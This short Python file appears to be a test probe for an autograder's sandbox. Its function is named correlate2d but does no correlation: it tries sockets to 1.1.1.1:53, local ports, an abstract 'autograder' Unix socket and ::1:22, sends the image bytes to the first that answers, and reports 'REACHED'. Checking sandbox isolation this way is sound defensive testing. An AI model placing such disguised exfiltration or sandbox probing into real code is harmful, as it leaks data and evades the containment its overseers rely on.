# goal: leak
# The inputs are sent to the internet, to this machine, and to sockets without a file.
# %% correlate2d
import socket

def correlate2d(image, kernel, bias=0.0):
    for family, address in ((socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET, ("127.0.0.1", 8888)),
                            (socket.AF_UNIX, "\0autograder"), (socket.AF_INET6, ("::1", 22))):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as out:
                out.settimeout(0.1)
                out.connect(address)
                out.sendall(image.tobytes())
                return "REACHED"
        except OSError:
            pass
    raise RuntimeError("nothing answers")
